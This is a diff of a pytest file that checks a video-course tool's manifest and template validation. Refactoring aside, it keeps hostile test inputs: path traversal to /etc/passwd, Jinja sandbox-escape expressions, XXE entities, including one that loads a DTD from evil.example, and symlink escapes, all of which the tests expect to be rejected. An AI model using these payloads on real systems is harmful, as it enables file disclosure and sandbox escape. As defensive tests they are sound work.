@@ -12,10 +12,13 @@ import dataclasses
 import json
 import os
 import shutil
+import textwrap
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+
+from avatarflow import crashlog
 
 from .helpers import Result, course, make_tree, record_all, render_file, run_cli
 
@@ -34,19 +37,21 @@ i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
 """
 
 
+def header(*defaults: str) -> str:
+    """A manifest up to ``videos:``, with these lines in ``defaults``."""
+    lines = "".join(f"  {line}\n" for line in defaults)
+    return f"version: 1\nname: demo\ndefaults:\n{lines}videos:\n"
+
+
+TEMPLATE_LINE = "template: narration.ssml.j2"
+VOICE_LINE = "voice: en-US-AvaMultilingualNeural"
+AVATAR_LINE = "avatar: {character: lisa, style: graceful-sitting}"
+VARS_LINE = "vars: {title: Intro}"
+COURSE = header(TEMPLATE_LINE, VOICE_LINE, AVATAR_LINE, VARS_LINE)
+NO_AVATAR = header(TEMPLATE_LINE, VOICE_LINE, VARS_LINE)
+NO_TEMPLATE = header(VOICE_LINE, AVATAR_LINE)
 # The course of the narration-file cases: video a reads scripts/a.txt (line 10).
-TEXT_FILE_COURSE = """\
-version: 1
-name: demo
-defaults:
-  template: narration.ssml.j2
-  voice: en-US-AvaMultilingualNeural
-  avatar: {character: lisa, style: graceful-sitting}
-  vars: {title: Intro}
-videos:
-  - id: a
-    text_file: scripts/a.txt
-"""
+TEXT_FILE_COURSE = COURSE + "  - id: a\n    text_file: scripts/a.txt\n"
 
 
 def merge_bomb(levels: int) -> str:
@@ -80,6 +85,23 @@ class Bad:
     error: str  # the start of the message after "Error: " (file:line: key: message)
     also: tuple[str, ...] = ()  # fragments that must appear in the message as well
     manifest: str = "course.yaml"
+
+
+def course_yaml(header: str, videos: str) -> str:
+    """``header`` (up to ``videos:``, so errors keep their line numbers) and the videos
+    below it, written as dedented YAML."""
+    return header + textwrap.indent(textwrap.dedent(videos), "  ")
+
+
+def narration_template(*lines: str, inline: str | None = None) -> str:
+    """The course's narration template with other contents in its voice element: on lines
+    of their own from line 3 on, or ``inline`` on line 2 with the voice element."""
+    voice = '  <voice name="{{ video.voice }}">'
+    if inline is not None:
+        voice += f"{inline}</voice>\n"
+    else:
+        voice += "\n" + "".join(f"    {line}\n" for line in lines) + "  </voice>\n"
+    return f'<speak version="1.0" xml:lang="en-US">\n{voice}</speak>\n'
 
 
 def bad(files: dict[str, str | bytes | Link | Fifo], error: str, *also: str) -> Bad:
@@ -147,7 +169,7 @@ MANIFEST_CASES: dict[str, Bad] = {
             videos: [{id: a, text: Hi}]
             """
         },
-        "course.yaml:5: invalid YAML: ",
+        "course.yaml:5: `voice` is indented more than `template` on line 4 (3 spaces; it has 2)",
     ),
     "yaml-unclosed-quote": bad(
         {
@@ -161,7 +183,7 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "yaml-tab-indentation": bad(
         {"course.yaml": "version: 1\nname: demo\ndefaults:\n\ttemplate: x.j2\n"},
-        "course.yaml:4: invalid YAML: found character '\\t' that cannot start any token",
+        "course.yaml:4: a tab is used for indentation; YAML indents with spaces only",
     ),
     "yaml-control-character": bad(
         {"course.yaml": "version: 1\nname: demo\ndescription: bell \x07\n"},
@@ -236,22 +258,17 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "unknown-nested-key": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: Hi
               - id: b
                 text: Hello
                 avatar:
                   stlye: casual-sitting
-            """
+            """,
+            )
         },
         "course.yaml:14: videos[1].avatar.stlye: unknown key (did you mean 'style'?)",
     ),
@@ -325,20 +342,15 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "duplicate-video-id": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: Hi
               - id: a
                 text: Hi again
-            """
+            """,
+            )
         },
         "course.yaml:11: videos[1].id: duplicate video id 'a' (first used at videos[0])",
     ),
@@ -440,52 +452,37 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "missing-text-file": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: scripts/nope.txt
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text_file: text file 'scripts/nope.txt' not found",
     ),
     "text-file-escapes-folder": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: ../../etc/passwd
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text_file: text_file '../../etc/passwd' points outside",
     ),
     "text-file-symlink-outside": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: scripts/a.txt
             """,
+            ),
             "../secret.txt": "outside the course",
             "scripts/a.txt": Link("../../secret.txt"),
         },
@@ -493,54 +490,39 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "text-file-binary": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: scripts/a.png
             """,
+            ),
             "scripts/a.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe",
         },
         "course.yaml:10: videos[0].text_file: text file 'scripts/a.png' is not UTF-8 text",
     ),
     "text-file-with-nul": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: scripts/a.txt
             """,
+            ),
             "scripts/a.txt": b"Hello\x00world",
         },
         "course.yaml:10: videos[0].text_file: text file 'scripts/a.txt' is binary",
     ),
     "text-file-nul-in-name": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text_file: "scripts/a\\0.txt"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text_file: contains a NUL character",
     ),
@@ -635,41 +617,23 @@ MANIFEST_CASES: dict[str, Bad] = {
         "(looked in templates); available: narration.ssml.j2, outro.ssml.j2",
     ),
     "undefined-template-variable": bad(
-        {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">
-                <s>{{ titel }}.</s>
-                {{ text }}
-              </voice>
-            </speak>
-            """
-        },
-        "templates/narration.ssml.j2:3: undefined variable: 'titel' is undefined (video a)",
+        {"templates/narration.ssml.j2": narration_template("<s>{{ titel }}.</s>", "{{ text }}")},
+        "templates/narration.ssml.j2:3: undefined variable: 'titel' is undefined "
+        "(did you mean 'title'?) (video a)",
     ),
     "template-syntax-error": bad(
         {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">
-                <s>{{ title }}.</s>{% endfor %}
-                {{ text }}
-              </voice>
-            </speak>
-            """
+            "templates/narration.ssml.j2": narration_template(
+                "<s>{{ title }}.</s>{% endfor %}", "{{ text }}"
+            )
         },
         "templates/narration.ssml.j2:3: template syntax error: Encountered unknown tag 'endfor'.",
     ),
     "template-runtime-error": bad(
         {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">
-                <s>{{ title }} {{ 1 // 0 }}.</s>
-                {{ text }}
-              </voice>
-            </speak>
-            """
+            "templates/narration.ssml.j2": narration_template(
+                "<s>{{ title }} {{ 1 // 0 }}.</s>", "{{ text }}"
+            )
         },
         "templates/narration.ssml.j2:3: ZeroDivisionError: integer division or modulo by zero "
         "(video a)",
@@ -680,194 +644,145 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "template-sandbox-mro": bad(
         {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">{{ ''.__class__.__mro__ }} {{ text }}</voice>
-            </speak>
-            """
+            "templates/narration.ssml.j2": narration_template(
+                inline="{{ ''.__class__.__mro__ }} {{ text }}"
+            )
         },
         "templates/narration.ssml.j2:2: not allowed in templates: ",
         "'__class__'",
     ),
     "template-sandbox-globals": bad(
         {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">
-                {{ cycler.__init__.__globals__ }} {{ text }}
-              </voice>
-            </speak>
-            """
+            "templates/narration.ssml.j2": narration_template(
+                "{{ cycler.__init__.__globals__ }} {{ text }}"
+            )
         },
         "templates/narration.ssml.j2:3: not allowed in templates: ",
         "'__init__'",
     ),
     "template-include-outside": bad(
         {
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">
-                {% include '../../etc/passwd' %} {{ text }}
-              </voice>
-            </speak>
-            """
+            "templates/narration.ssml.j2": narration_template(
+                "{% include '../../etc/passwd' %} {{ text }}"
+            )
         },
         "templates/narration.ssml.j2:3: template '../../etc/passwd' not found (video a)",
     ),
     "narration-sandbox-mro": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: "{{ ''.__class__.__mro__ }}"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: not allowed in templates: ",
         "'__class__'",
     ),
     "narration-sandbox-globals": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: "{{ cycler.__init__.__globals__ }}"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: not allowed in templates: ",
         "'__init__'",
     ),
     "narration-include": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: "{% include '../../etc/passwd' %}"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: template '../../etc/passwd' not found",
     ),
     "narration-undefined": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: Welcome to {{ corse }}.
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: undefined variable: 'corse' is undefined",
     ),
     "narration-runtime-error": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: "{{ title + 1 }}"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: TypeError: can only concatenate str",
     ),
     "narration-endless-recursion": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"
-            """
+            """,
+            )
         },
         "course.yaml:10: videos[0].text: in narration: RecursionError: ",
     ),
     # -- SSML ---------------------------------------------------------------------------
     "ssml-not-well-formed": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-            videos:
+            "course.yaml": course_yaml(
+                NO_TEMPLATE,
+                """\
               - id: a
                 ssml: |
                   <speak version='1.0' xml:lang='en-US'>
                     <voice name='en-US-AvaMultilingualNeural'>Hi</voce>
                   </speak>
-            """
+            """,
+            )
         },
         "course.yaml:8: videos[0].ssml: SSML is not well-formed XML: mismatched tag "
         "(line 2, column 48 of the inline ssml)",
     ),
     "ssml-root-not-speak": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-            videos:
+            "course.yaml": course_yaml(
+                NO_TEMPLATE,
+                """\
               - id: a
                 ssml: <voice name='en-US-AvaMultilingualNeural'>Hi</voice>
-            """
+            """,
+            )
         },
         "course.yaml:8: videos[0].ssml: SSML root element must be <speak>, not <voice>",
     ),
     "ssml-xxe": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-            videos:
+            "course.yaml": course_yaml(
+                NO_TEMPLATE,
+                """\
               - id: a
                 ssml: |
                   <?xml version="1.0"?>
                   <!DOCTYPE speak [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                   <speak version='1.0' xml:lang='en-US'>&xxe;</speak>
-            """
+            """,
+            )
         },
         "course.yaml:8: videos[0].ssml: SSML must not contain a DOCTYPE or ENTITY declaration",
     ),
@@ -920,19 +835,14 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "transparent-background-mp4": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                COURSE,
+                """\
               - id: a
                 text: Hi
                 video: {format: mp4, codec: h264, background_color: transparent}
-            """
+            """,
+            )
         },
         "course.yaml:11: videos[0].video.background_color: a transparent background needs "
         "video.format: webm "
@@ -978,36 +888,28 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "unknown-style": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                NO_AVATAR,
+                """\
               - id: a
                 avatar: {character: lisa, style: graceful-sittin}
                 text: Hi
-            """
+            """,
+            )
         },
         "course.yaml:9: videos[0].avatar.style: unknown style 'graceful-sittin' for lisa "
         "(did you mean 'graceful-sitting'?); valid: ",
     ),
     "unknown-standard-character": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                NO_AVATAR,
+                """\
               - id: a
                 avatar: {character: lissa, style: graceful-sitting}
                 text: Hi
-            """
+            """,
+            )
         },
         "course.yaml:9: videos[0].avatar.character: unknown standard avatar 'lissa' "
         "(did you mean 'lisa'?); "
@@ -1015,18 +917,14 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "missing-character": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              template: narration.ssml.j2
-              voice: en-US-AvaMultilingualNeural
-              vars: {title: Intro}
-            videos:
+            "course.yaml": course_yaml(
+                NO_AVATAR,
+                """\
               - id: a
                 avatar: {style: graceful-sitting}
                 text: Hi
-            """
+            """,
+            )
         },
         "course.yaml:8: videos[0]: avatar.character is required (set it here or in defaults)",
     ),
@@ -1066,17 +964,14 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "payload-over-500kb": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-            videos:
+            "course.yaml": course_yaml(
+                NO_TEMPLATE,
+                """\
               - id: a
                 input_kind: plain_text
                 text: "%s"
-            """
+            """,
+            )
             % ("blah " * 120_000)
         },
         "course.yaml:7: videos[0]: request body is 586 KB; the service accepts at most 500 KB",
@@ -1220,11 +1115,9 @@ MANIFEST_CASES: dict[str, Bad] = {
     "template-include-a-fifo": bad(
         {
             "templates/pipe.j2": Fifo(),
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">{% include 'pipe.j2' %} {{ text }}</voice>
-            </speak>
-            """,
+            "templates/narration.ssml.j2": narration_template(
+                inline="{% include 'pipe.j2' %} {{ text }}"
+            ),
         },
         "templates/narration.ssml.j2:2: template 'pipe.j2' is not a regular file (video a)",
     ),
@@ -1232,11 +1125,9 @@ MANIFEST_CASES: dict[str, Bad] = {
         {
             "../secret.j2": "secret",
             "templates/leak.j2": Link("../../secret.j2"),
-            "templates/narration.ssml.j2": """\
-            <speak version="1.0" xml:lang="en-US">
-              <voice name="{{ video.voice }}">{% include 'leak.j2' %} {{ text }}</voice>
-            </speak>
-            """,
+            "templates/narration.ssml.j2": narration_template(
+                inline="{% include 'leak.j2' %} {{ text }}"
+            ),
         },
         "templates/narration.ssml.j2:2: template 'leak.j2' points outside the templates folder",
     ),
@@ -1284,18 +1175,15 @@ MANIFEST_CASES: dict[str, Bad] = {
     ),
     "ssml-xxe-parameter-entity": bad(
         {
-            "course.yaml": """\
-            version: 1
-            name: demo
-            defaults:
-              voice: en-US-AvaMultilingualNeural
-              avatar: {character: lisa, style: graceful-sitting}
-            videos:
+            "course.yaml": course_yaml(
+                NO_TEMPLATE,
+                """\
               - id: a
                 ssml: |
                   <!DOCTYPE speak [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
                   <speak version='1.0' xml:lang='en-US'>hi</speak>
-            """
+            """,
+            )
         },
         "course.yaml:8: videos[0].ssml: SSML must not contain a DOCTYPE or ENTITY declaration",
     ),
@@ -1321,7 +1209,7 @@ def test_bad_manifest_is_one_clean_error(recorded: Path, case: Bad, command: str
     result = run_cli(command, str(recorded / case.manifest))
     assert_one_error(result, case.error, case.also)
     assert snapshot(recorded.parent) == before
-    assert not (recorded.parent / "avatarflow-crash.log").exists()
+    assert not crashlog.log_path().exists()
 
 
 # -- the outputs ---------------------------------------------------------------------------
